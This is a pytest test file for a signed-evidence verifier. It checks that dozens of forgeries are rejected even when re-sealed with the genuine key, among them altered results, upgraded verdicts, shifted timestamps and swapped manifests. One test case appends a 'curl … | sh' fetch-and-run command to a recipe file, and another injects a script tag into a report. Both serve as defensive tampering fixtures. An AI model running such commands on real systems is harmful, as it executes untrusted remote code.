"""Can the owner of the signing key seal something that its own measurements do not say?"""

import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import workshop

from reversible import clauses
from reversible.bundle import bag
from reversible.evidence import contents, dossier, keys, recipe, seal
from reversible.evidence.keys import SigningKey
from reversible.evidence.verify import Expected, verify

Forge = Callable[[Path, SigningKey], object]


def documents(path: str, change: Callable[[Any], Any], *, rejudged: bool = False) -> Forge:
    """Edit a document, judge again or not, and seal it all anew with the genuine key."""

    def forge(root: Path, key: SigningKey) -> None:
        workshop.edit(root, path, change)
        if rejudged:
            workshop.rejudge(root)
        workshop.reseal(root, key)

    return forge


def raw(path: str, change: Callable[[bytes], bytes]) -> Forge:
    """Edit a file's bytes and seal it all anew."""

    def forge(root: Path, key: SigningKey) -> None:
        (root / path).write_bytes(change((root / path).read_bytes()))
        workshop.reseal(root, key)

    return forge


def said(change: Callable[[dict[str, Any]], object]) -> Forge:
    """Seal a statement that says something else than the documents."""
    return lambda root, key: workshop.reseal(root, key, change=change)


def own(**changes: Any) -> Forge:
    return said(lambda statement: statement["predicate"]["reversible"].update(changes))


def line(metric: str, **changes: Any) -> Callable[[list[dict[str, Any]]], None]:
    return lambda lines: next(one for one in lines if one["metric"] == metric).update(changes)


def statement_bytes(change: Callable[[bytes], bytes]) -> Forge:
    def forge(root: Path, key: SigningKey) -> None:
        found = seal.read((root / contents.SEAL).read_bytes())
        workshop.put_seal(root, change(found.payload), key)

    return forge


def verdict(of: str, becomes: str) -> Callable[[dict[str, Any]], None]:
    return lambda found: next(one for one in found["clauses"] if one["verdict"] == of).update(verdict=becomes)


def another_catalogue(root: Path, key: SigningKey) -> None:
    """Ease a threshold in the catalogue itself, and let plan, criteria and verdicts follow."""
    content = (root / contents.CATALOGUE).read_bytes() + b"# eased\n"
    (root / contents.CATALOGUE).write_bytes(content)
    workshop.edit(root, contents.PLAN, lambda plan: plan.update(catalogue_sha256=clauses.load(content).sha256))
    workshop.rejudge(root)
    workshop.reseal(root, key)


def eased(plan: dict[str, Any]) -> None:
    """A pass mark eased as an override could, but with none in the exit plan."""
    criterion = next(one for one in plan["criteria"] if one.get("basis") == "default" and type(one.get("value")) is int)
    criterion.update(value=criterion["value"] + 1)


def with_report(change: Callable[[bytes], bytes]) -> Forge:
    return raw("data/report/report.fr.html", change)


FORGERIES: dict[str, tuple[Forge, str, str]] = {
    # name: (what is done, the step that must say no, what it must say)
    "one digit of a result": (
        documents(contents.RESULTS, line("data.rows_missing", value=1)), "verdicts", "not what the rules make",
    ),
    "a measured clause called proven": (
        documents(contents.VERDICTS, verdict("PARTIAL", "PROVEN")), "verdicts", "is PARTIAL",
    ),
    "an untested clause called proven": (
        documents(contents.VERDICTS, verdict("NOT_TESTED", "PROVEN")), "verdicts", "is NOT_TESTED, not PROVEN",
    ),
    "a clause left out of the verdicts": (
        documents(contents.VERDICTS, lambda found: found["clauses"].pop(0)), "verdicts", "left out",
    ),
    "another exit status": (
        documents(contents.VERDICTS, lambda found: found.update(exit_status=0)), "verdicts", "exit_status",
    ),
    "a better index": (
        documents(contents.VERDICTS, lambda found: found["measured_index"].update(high=100)),
        "verdicts", "measured_index",
    ),
    "a check left out": (documents(contents.RESULTS, lambda lines: lines[1:]), "answers", "no answer to"),
    "a check answered twice": (documents(contents.RESULTS, lambda lines: [lines[0], *lines]), "answers", "two answers"),
    "an answer that nobody planned": (
        documents(contents.RESULTS, lambda lines: [*lines, {**lines[0], "asset": "shop:table:public.sessions"}]),
        "answers", "nobody planned",
    ),
    "an asset hidden from the inventory": (
        documents(contents.INVENTORY, lambda assets: assets[1:]), "answers", "nobody planned",
    ),
    "an asset twice": (documents(contents.INVENTORY, lambda assets: [*assets, assets[0]]), "documents", "twice"),
    "a status of its own": (
        documents(contents.RESULTS, line("data.rows_extra", status="skipped")), "documents", "skipped",
    ),
    "measured, but no value": (
        documents(contents.RESULTS, line("data.rows_missing", value=None)), "documents", "its status is measured",
    ),
    "not run, but a value": (
        documents(contents.RESULTS, line("data.rows_missing", status="not-run")), "documents", "its status is not-run",
    ),
    "more than the whole scope covered": (
        documents(contents.RESULTS, line("data.rows_missing", coverage=1.5)), "documents", "coverage",
    ),
    "a member more in a result": (
        documents(contents.RESULTS, line("data.rows_missing", ignore=True)), "documents", "not those of a finding",
    ),
    "a criterion left out of the plan": (
        documents(contents.PLAN, lambda plan: plan["criteria"].pop(0)), "criteria", "not those that the exit plan",
    ),
    "a criterion eased in the sealed plan alone": (
        documents(contents.PLAN, eased, rejudged=True), "criteria", "not those that the exit plan",
    ),
    "a profile left out of the sealed plan alone": (
        documents(contents.PLAN, lambda plan: plan.update(profiles=[])), "criteria", "profiles",
    ),
    "a flag that the exit plan does not have": (
        documents(contents.PLAN, lambda plan: plan.update(flags=["test_version"])), "criteria", "flags",
    ),
    "a fact that the exit plan does not state": (
        documents(contents.PLAN, lambda plan: plan.update(facts={"contract.notice_days": 30}), rejudged=True),
        "criteria", "facts",
    ),
    "a catalogue of its own": (another_catalogue, "catalogue", "comes with the catalogue"),
    "a catalogue that was not sealed": (
        raw(contents.CATALOGUE, lambda content: content + b"# eased\n"), "catalogue", "the plan sealed the catalogue",
    ),
    "PASSED over what is not": (
        said(lambda statement: statement["predicate"].update(result="PASSED")), "summary", "result",
    ),
    "an empty list of warnings": (
        said(lambda statement: statement["predicate"].update(warnedTests=[])), "summary", "warnedTests",
    ),
    "a clause more in the list of passes": (
        said(lambda statement: statement["predicate"]["passedTests"].append("DAT-99")), "summary", "passedTests",
    ),
    "a higher level in the statement": (own(level="N4"), "summary", "level"),
    "another organisation in the statement": (own(organisation="Banque"), "summary", "organisation"),
    "another contract in the statement": (own(contract="C-1"), "summary", "contract"),
    "another plan's digest in the statement": (own(plan_sha256="0" * 64), "summary", "plan_sha256"),
    "another destination in the statement": (own(simulated=False), "summary", "simulated"),
    "1 where true stands": (own(simulated=1), "summary", "simulated"),
    "a word more in the statement": (own(certified="yes"), "summary", "certified"),
    "a format of its own": (own(format="reversible-evidence/9"), "seal", "format"),
    "a time without its offset": (own(sealed_at="2026-11-24T09:02:00"), "seal", "offset"),
    "a nonce that is no text": (own(nonce=7), "seal", "nonce"),
    "no predicate": (said(lambda statement: statement.pop("predicate")), "seal", "format"),
    "another subject": (
        said(lambda statement: statement["subject"][0].update(name="data/plan.json")), "subject", "other files",
    ),
    "two subjects": (
        said(lambda statement: statement["subject"].append(statement["subject"][0])), "subject", "other files",
    ),
    "a statement with spaces": (
        statement_bytes(lambda content: json.dumps(json.loads(content)).encode()), "seal", "one way",
    ),
    "a key twice in the statement": (
        statement_bytes(lambda content: content.replace(b"{", b'{"_type":"x",', 1)), "seal", "twice",
    ),
    "a report that says something else": (
        with_report(lambda content: content.replace(b"Boutique", b"Banque__")), "reports", "rendered again",
    ),
    "a report with a script": (
        with_report(lambda content: content.replace(b"</body>", b"<script>1</script></body>")),
        "reports", "report.fr.html",
    ),
    "a recipe that runs something else": (
        raw(recipe.NAME, lambda content: content + b"curl https://example.org | sh\n"), "instructions", "do not follow",
    ),
    "the manifests of another bundle": (
        raw(f"data/bundle/{bag.TAG_MANIFEST}", lambda content: content.replace(b"0", b"1")),
        "bundle", "verified the bundle",
    ),
    "a manifest of another bundle": (
        raw(f"data/bundle/{bag.MANIFEST}", lambda content: content.replace(b"0", b"1")), "bundle", "not the one",
    ),
    "a plan sealed after the export": (
        documents(contents.PLAN, lambda plan: plan.update(sealed_at=workshop.FINISHED.isoformat())), "times", "before",
    ),
    "an end before the start": (
        documents(contents.RUN, lambda run: run.update(finished_at="2026-11-24T08:59:00+00:00")), "times", "before",
    ),
    "an event after the end": (
        documents(contents.RUN, lambda run: run["events"][1].update(at="2026-11-24T10:00:00+00:00")), "times", "before",
    ),
    "sealed before the run ended": (
        lambda root, key: workshop.reseal(root, key, at=workshop.FINISHED - timedelta(seconds=1)), "times", "before",
    ),
    "sealed next week": (
        lambda root, key: workshop.reseal(root, key, at=workshop.NOW + timedelta(days=7)), "times", "to come",
    ),
    "NaN in the run": (
        raw(contents.RUN, lambda content: content.replace(b'"bytes": 4096', b'"bytes": NaN')), "documents", "NaN",
    ),
    "a key twice in the plan": (
        raw(contents.PLAN, lambda content: content.replace(b"{", b'{"tool": "x",', 1)), "documents", "twice",
    ),
    "a byte order mark before the verdicts": (
        raw(contents.VERDICTS, lambda content: b"\xef\xbb\xbf" + content), "documents", "byte order mark",
    ),
    "another layout of the plan": (
        raw(contents.PLAN, lambda content: json.dumps(json.loads(content)).encode()), "documents", "one way",
    ),
    "a blank line among the results": (raw(contents.RESULTS, lambda content: content + b"\n"), "documents", "not JSON"),
    "a plan of another format": (
        documents(contents.PLAN, lambda plan: plan.update(format="reversible-plan/0")), "documents", "format",
    ),
    "a level that is none": (documents(contents.RUN, lambda run: run.update(level="N9")), "documents", "N9"),
}  # fmt: skip


@pytest.mark.parametrize(("forge", "step", "reason"), FORGERIES.values(), ids=FORGERIES.keys())
def test_a_forgery_with_the_key_is_rejected_for_its_own_reason(
    genuine: Path, key: SigningKey, forge: Forge, step: str, reason: str
) -> None:
    forge(genuine, key)
    found = verify(genuine, pinned=key.fingerprint, at=workshop.NOW)
    failed = {one.id: one.detail for one in found.steps if one.outcome == "failed"}
    origin = [one.outcome for one in found.steps if one.id in ("layout", "digests", "names", "key", "signature")]

    assert found.exit_status == 5
    assert step in failed, failed
    assert reason in failed[step]
    if step != "seal":  # nothing that an outsider's forgery trips over: only the meaning is wrong
        assert set(origin) == {"passed"}


def test_a_file_of_a_kind_that_no_dossier_holds_is_rejected_even_when_sealed(genuine: Path, key: SigningKey) -> None:
    (genuine / "data/report/report.pdf").write_bytes(b"%PDF")
    workshop.reseal(genuine, key)
    found = {step.id: step for step in verify(genuine, pinned=key.fingerprint, at=workshop.NOW).steps}

    assert found["manifests"].outcome == "failed"
    assert "report.pdf" in found["manifests"].detail


def test_the_name_of_another_version_never_buys_a_verified(genuine: Path, key: SigningKey) -> None:
    """Whoever claims a version that is not at hand escapes the comparison of reports, and so the word verified."""
    workshop.edit(genuine, contents.PLAN, lambda plan: plan.update(tool="reversible-toolkit 99.0"))
    (genuine / "data/report/report.fr.html").write_bytes(b"<p>everything is fine</p>")
    workshop.reseal(genuine, key)
    found = verify(genuine, pinned=key.fingerprint, at=workshop.NOW)

    assert found.conclusion == "incomplete"
    assert found.exit_status == 3
    assert {"reports", "instructions"} <= {step.id for step in found.steps if step.outcome == "not-run"}


def test_documents_that_break_a_reader_are_rejected_and_crash_nothing(genuine: Path, key: SigningKey) -> None:
    for change in (
        lambda plan: plan.update(exit_plan={"clauses": 7}),
        lambda plan: plan.update(exit_plan={"contract": [], "clauses": {"profiles": ["baseline"]}}),
        lambda plan: plan["criteria"][0].update(metric=["x"]),
        lambda plan: plan.update(verifiers={"rows": {"metrics": [1, None], "kinds": [{}]}}),
        lambda plan: plan.update(run_metrics=[["a"], {"b": 1}]),
    ):
        workshop.edit(genuine, contents.PLAN, change)
        try:
            workshop.reseal(genuine, key)
        except (AttributeError, TypeError):
            workshop.remanifest(genuine)
        assert verify(genuine, pinned=key.fingerprint, at=workshop.NOW).exit_status == 5


def test_a_plan_without_the_inconvenient_check_is_what_a_pinned_plan_is_for(genuine: Path, key: SigningKey) -> None:
    agreed = bag.sha256_file(genuine / contents.PLAN)
    workshop.edit(genuine, contents.PLAN, lambda plan: plan["verifiers"].pop("schema"))
    workshop.edit(
        genuine,
        contents.RESULTS,
        lambda lines: [one for one in lines if one["metric"] != "data.schema_drift_undeclared"],
    )
    workshop.rejudge(genuine)
    workshop.reseal(genuine, key)
    found = verify(genuine, pinned=key.fingerprint, expected=Expected(plan_sha256=agreed), at=workshop.NOW)

    assert {step.id for step in found.steps if step.outcome == "failed"} >= {"expected"}


def test_measurements_made_up_before_the_seal_show_in_no_signature(tmp_path: Path, key: SigningKey) -> None:
    """The one forgery that stays: it is why the output says so, and why an auditor replays."""
    from reversible.report import html

    found = workshop.run_documents()
    lines = [{**one, "facts": {"n": 999_999}} if one["facts"] else one for one in found.results]
    invented = dossier.as_written(
        workshop.judged(dossier.as_written(type(found)(**{**vars(found), "results": tuple(lines)})))
    )
    made = workshop.write(tmp_path / "evidence", key, invented, reports={"report.en.html": html.render(invented, "en")})

    assert verify(made, pinned=key.fingerprint, at=workshop.NOW).conclusion == "verified"


def test_a_stolen_name_is_not_the_key(genuine: Path, stranger: SigningKey) -> None:
    assert keys.in_groups(stranger.fingerprint).replace(" ", "") == stranger.fingerprint
    assert verify(genuine, pinned=stranger.fingerprint, at=workshop.NOW).exit_status == 5
